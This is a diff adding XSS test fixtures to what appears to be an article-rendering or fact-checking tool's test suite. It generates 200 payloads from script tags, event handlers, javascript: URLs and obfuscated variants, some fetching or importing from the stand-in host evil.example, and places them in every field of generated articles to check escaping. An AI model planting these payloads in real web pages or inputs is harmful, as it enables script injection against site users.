@@ -318,3 +318,39 @@ def hostile_article(facts: FactTable) -> Checked:
     return w.done(
         title="</title><script>alert(5)</script>\u202e", site="\" onmouseover=alert(6) x=\"", url="javascript:alert(7)"
     )  # fmt: skip
+
+
+_SHELLS = (
+    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<iframe srcdoc='<script>{}</script>'>",
+    "</title><script>{}</script>", "\"><script>{}</script>", "' onmouseover={} x='", "<a href=\"javascript:{}\">x</a>",
+    "<body onload={}>", "<details open ontoggle={}>x</details>", "</pre></details><script>{}</script>",
+    "<style>@import 'http://evil.example/x.css';*{{display:none}}</style><!--{}-->", "<input autofocus onfocus={}>",
+    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<object data=\"javascript:{}\">",
+    "<math><mi xlink:href='javascript:{}'>",
+    "<form action='javascript:{}'><button id=x>", "<base href='http://evil.example/'>{}", "<video><source onerror={}>",
+    "<link rel=stylesheet href='http://evil.example/{}'>", "\u202e<script>{}</script>", "<scr\x00ipt>{}</scr\x00ipt>",
+    "＜script＞{}＜/script＞", "&lt;script&gt;{}&lt;/script&gt;", "<!--<script>{}//-->",
+)  # fmt: skip
+_ACTIONS = (
+    "alert(1)", "window.pwned=1", "location='http://evil.example/'", "document.body.remove()",
+    "fetch('http://evil.example/')", "eval('window.pwned=2')", "import('http://evil.example/x.js')", "confirm(1)",
+)  # fmt: skip
+PAYLOADS = tuple(shell.format(action) for shell in _SHELLS for action in _ACTIONS)
+"""Two hundred ways to run something, as text, title, site, file name, value and reason."""
+
+
+def payload_run() -> Run:
+    """Return a run of twenty articles that hold every payload in every place."""
+    facts = table()
+    checked = []
+    for k in range(20):
+        mine = PAYLOADS[k::20]
+        w = Writer(f"p/{k:02}{mine[0]}", facts)
+        for words in mine:
+            w.text(words + "\n").remove(words + "\n", words, words)
+            w.claim(
+                "x", words, "y", subject="p0", predicate="operator", written=words, fact="F0", reason=words,
+                value=UnknownValue(name=words, proper_name=True), verdict=Verdict.CONTRADICTED, code=words,
+            ).text("\n")  # fmt: skip
+        checked.append(w.done(title=mine[1], site=mine[2], url=mine[3], published=None))
+    return Run(version="0.0", input=("p",), table=facts, checked=tuple(checked))
